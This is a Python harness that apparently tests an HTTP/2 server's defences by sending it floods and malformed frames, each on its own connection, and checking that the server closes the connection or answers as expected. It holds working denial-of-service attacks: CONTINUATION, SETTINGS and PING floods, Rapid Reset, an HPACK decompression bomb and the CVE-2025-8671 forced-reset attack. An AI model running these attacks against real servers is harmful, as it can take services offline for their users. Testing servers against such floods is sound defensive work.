"""What a client of HTTP/2 may not do, by frames that no library would send.

    python -m floods_h2 HOST PORT ATTACK...

Each attack is so many frames at most, on a connection of its own. Says how each went and then `ok`: whether
its connection was ended, and by which GOAWAY if that could still be read (a server that closes while there
is more to read resets the connection, and what it said last may be lost).
"""

import select
import socket
import ssl
import struct
import sys
import time

import hpack

from probe import tls

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
INITIAL_WINDOW_SIZE = 4
CODES = dict(enumerate("NO_ERROR PROTOCOL_ERROR INTERNAL_ERROR FLOW_CONTROL_ERROR SETTINGS_TIMEOUT "
                       "STREAM_CLOSED FRAME_SIZE_ERROR REFUSED_STREAM CANCEL COMPRESSION_ERROR "
                       "CONNECT_ERROR ENHANCE_YOUR_CALM".split()))  # fmt: skip
MANY = 20_000
# The server's own deadlines are within it.
DEADLINE = 20


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def reset(stream):
    return frame(RST_STREAM, stream=stream, payload=struct.pack(">I", 8))


def window(stream, by):
    return frame(WINDOW_UPDATE, stream=stream, payload=struct.pack(">I", by))


class Attacker:
    def __init__(self, host, port, settings=b""):
        self.at, self.encoder, self.decoder = f"{host}:{port}", hpack.Encoder(), hpack.Decoder()
        raw = socket.create_connection((host, port))
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket = tls("h2").wrap_socket(raw, server_hostname="localhost")
        assert self.socket.selected_alpn_protocol() == "h2"
        self.socket.setblocking(False)
        self.seen, self.statuses, self.resets, self.goaway, self.ended = b"", {}, {}, None, False
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, payload=settings))
        self.until(lambda: self.greeted, "SETTINGS")
        self.send(frame(SETTINGS, ACK))

    greeted = False

    def head(self, stream, flags=END_STREAM | END_HEADERS, method="GET", path="/page", more=()):
        fields = [(":method", method), (":scheme", "https"), (":path", path), (":authority", self.at), *more]
        return frame(HEADERS, flags, stream, self.encoder.encode(fields))

    def send(self, data, read=True):
        """Returns when all is written, or the connection is over. `read`: what comes is read meanwhile."""
        data, deadline = memoryview(data), time.monotonic() + DEADLINE
        while data and not self.ended:
            assert time.monotonic() < deadline, f"{len(data)} bytes are not taken, and nobody ends it"
            try:
                data = data[self.socket.send(data[:16384]) :]
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                select.select([self.socket] if read else [], [self.socket], [], 0.1)
            except OSError:
                self.ended = True
            if read:
                self.receive()

    def receive(self):
        while not self.ended:
            try:
                data = self.socket.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                break
            except OSError:
                data = b""
            self.ended = not data
            self.seen += data
        while len(self.seen) >= 9 and len(self.seen) >= 9 + (length := int.from_bytes(self.seen[:3])):
            kind, flags, stream = self.seen[3], self.seen[4], int.from_bytes(self.seen[5:9])
            payload, self.seen = self.seen[9 : 9 + length], self.seen[9 + length :]
            self.take(kind, flags, stream, payload)

    def take(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            self.greeted = True
        elif kind == HEADERS:
            self.statuses[stream] = dict(self.decoder.decode(payload))[":status"]
        elif kind == RST_STREAM:
            self.resets[stream] = CODES[int.from_bytes(payload)]
        elif kind == GOAWAY:
            self.goaway = CODES[int.from_bytes(payload[4:8])]

    def until(self, happened, what, deadline=DEADLINE):
        deadline = time.monotonic() + deadline
        while not happened():
            assert not self.ended, f"the connection ended before: {what}"
            assert time.monotonic() < deadline, f"not in time: {what}"
            select.select([self.socket], [], [], 0.1)
            self.receive()

    def wait_for_end(self, what):
        """Of a connection on which nothing more is sent."""
        deadline = time.monotonic() + DEADLINE
        while not self.ended:
            assert time.monotonic() < deadline, f"still open: {what}"
            select.select([self.socket], [], [], 0.1)
            self.receive()
        return f"ended, {self.goaway or 'GOAWAY not read'}"

    def flood(self, piece, read=False):
        """Sends it until the connection ends, which it must."""
        for start in range(0, MANY, 100):
            self.send(b"".join(piece(n) for n in range(start, start + 100)), read)
            if self.ended:
                break
        return self.wait_for_end(f"after {MANY} frames")


def continuation(a):
    """A head that never ends, in frames as large as may be."""
    block = a.encoder.encode([(f"x-{n}", "y" * 80) for n in range(160)])
    a.send(a.head(1, flags=END_STREAM))
    return a.flood(lambda _: frame(CONTINUATION, stream=1, payload=block))


def tiny_continuation(a):
    a.send(a.head(1, flags=END_STREAM))
    return a.flood(lambda n: frame(CONTINUATION, stream=1, payload=b"" if n % 2 else b"\x40\x01a\x01b"))


def settings(a):
    return a.flood(lambda _: frame(SETTINGS))


def changing_settings(a):
    """With open streams, whose windows all have to be changed."""
    a.send(b"".join(a.head(2 * n + 1, flags=END_HEADERS, method="POST") for n in range(50)))
    return a.flood(lambda n: frame(SETTINGS, payload=struct.pack(">HI", INITIAL_WINDOW_SIZE, 1000 + n % 2)))


def ping(a):
    return a.flood(lambda n: frame(PING, payload=struct.pack(">Q", n)))


def ping_and_read(a):
    return a.flood(lambda n: frame(PING, payload=struct.pack(">Q", n)), read=True)


def priority(a):
    return a.flood(lambda n: frame(PRIORITY, stream=2 * n + 1, payload=struct.pack(">IB", 0, 16)))


def window_update(a):
    a.send(a.head(1, flags=END_HEADERS, method="POST"))
    return a.flood(lambda n: window(n % 2, 1))


def unknown_frames(a):
    return a.flood(lambda _: frame(0xBB, payload=b"x"))


def empty_data(a):
    a.send(a.head(1, flags=END_HEADERS, method="POST"))
    return a.flood(lambda _: frame(DATA, stream=1))


def empty_headers(a):
    return a.flood(lambda n: frame(HEADERS, END_HEADERS, 2 * n + 1))


def rapid_reset(a):
    return a.flood(lambda n: a.head(2 * n + 1) + reset(2 * n + 1))


def slow_reset(a):
    """Each by itself, so that most are requests by the time that they are reset."""
    for stream in range(1, 2 * MANY, 2):
        a.send(a.head(stream, flags=END_HEADERS, method="CONNECT", more=[(":protocol", "none")]))
        a.send(reset(stream))
        if a.ended:
            break
    return a.wait_for_end(f"after {MANY} resets")


def made_to_reset(broken):
    """CVE-2025-8671: the server is made to reset, by a frame that is wrong for the stream alone."""

    def attack(a):
        return a.flood(lambda n: a.head(2 * n + 1, flags=END_HEADERS, method="POST") + broken(2 * n + 1))

    return attack


def plain(a):
    """A request without a reference to the table of fields, nor an entry to it: GET https /."""
    return b"\x82\x87\x84\x01" + bytes([len(a.at)]) + a.at.encode()


def hpack_bomb(a):
    """One large field, to which the next head refers by a byte each time."""
    value = b"y" * 4000
    literal = b"\x40\x06x-bomb\x7f" + hpack_integer(len(value) - 127) + value
    a.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, plain(a) + literal))
    a.until(lambda: 1 in a.statuses, "the first answer")
    a.send(frame(HEADERS, END_STREAM | END_HEADERS, 3, plain(a) + b"\xbe" * 16_000))
    return a.wait_for_end("after a bomb of 64 MB")


def hpack_integer(rest):
    out = b""
    while rest >= 128:
        out += bytes([rest % 128 | 128])
        rest //= 128
    return out + bytes([rest])


def table_sizes(a):
    """More updates of the table's size than a block may begin with (RFC 7541, 4.2)."""
    block = b"\x20\x3f\xe1\x1f" * 4000 + plain(a)
    a.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
    a.until(lambda: a.statuses or a.resets or a.goaway, "an answer to a block of size updates")
    a.send(frame(HEADERS, END_STREAM | END_HEADERS, 3, b"\x3f\xff\xff\x7f"))
    return a.wait_for_end("after a table larger than allowed")


def large_head(a):
    """Over the limit, twice: answered, and the connection goes on."""
    for stream in (1, 3):
        block = plain(a) + b"".join(b"\x00\x03x-y\x7f" + hpack_integer(373) + b"y" * 500 for _ in range(90))
        a.send(frame(HEADERS, END_STREAM, stream, block[:16000]))
        rest = [block[at : at + 16000] for at in range(16000, len(block), 16000)]
        for n, part in enumerate(rest):
            a.send(frame(CONTINUATION, END_HEADERS if n + 1 == len(rest) else 0, stream, part))
        a.until(lambda: stream in a.statuses or stream in a.resets, "431")
        assert a.statuses.get(stream) == "431", (a.statuses, a.resets)
    a.send(a.head(5))
    a.until(lambda: a.statuses.get(5) == "200", "200")
    return "431, 431, 200"


def stalled(a):
    """Requests whose answers it gives no window for: each is given up after its deadline."""
    a.send(b"".join(a.head(2 * n + 1) for n in range(100)))
    a.until(lambda: len(a.statuses) == 100, "heads of 100 answers")
    a.until(lambda: len(a.resets) == 100, "100 resets")
    a.send(frame(SETTINGS, payload=struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535)) + a.head(201))
    a.until(lambda: a.statuses.get(201) == "200", "an answer on the same connection")
    return f"100 streams reset, {set(a.resets.values())}"


def half_a_frame(a):
    a.send(a.head(1)[:-5])
    return a.wait_for_end("after half a frame")


def half_a_frame_after_a_request(a):
    a.send(a.head(1))
    a.until(lambda: 1 in a.statuses, "an answer")
    a.send(a.head(3)[:7])
    return a.wait_for_end("after half a frame")


ATTACKS = {
    attack.__name__: attack
    for attack in (
        continuation, tiny_continuation, settings, changing_settings, ping, ping_and_read, priority,
        window_update, unknown_frames, empty_data, empty_headers, rapid_reset, slow_reset, hpack_bomb,
        table_sizes, large_head, stalled, half_a_frame, half_a_frame_after_a_request,
    )
}  # fmt: skip
ATTACKS |= {
    "reset_by_empty_update": made_to_reset(lambda stream: window(stream, 0)),
    "reset_by_too_large_a_window": made_to_reset(lambda stream: window(stream, 0x7FFFFFFF)),
    "reset_by_data_after_the_end": made_to_reset(
        lambda stream: frame(DATA, END_STREAM, stream, b"x") + frame(DATA, 0, stream, b"x")
    ),
    "reset_by_itself_as_parent": made_to_reset(
        lambda stream: frame(PRIORITY, stream=stream, payload=struct.pack(">IB", stream, 0))
    ),
}


def main(host, port, *names):
    for name in names:
        start = time.monotonic()
        settings = struct.pack(">HI", INITIAL_WINDOW_SIZE, 0) if name == "stalled" else b""
        attacker = Attacker(host, int(port), settings)
        print(f"{name}:", ATTACKS[name](attacker), f"({time.monotonic() - start:.1f} s)", flush=True)
        attacker.socket.close()
    print("ok: all", len(names))


if __name__ == "__main__":
    main(*sys.argv[1:])
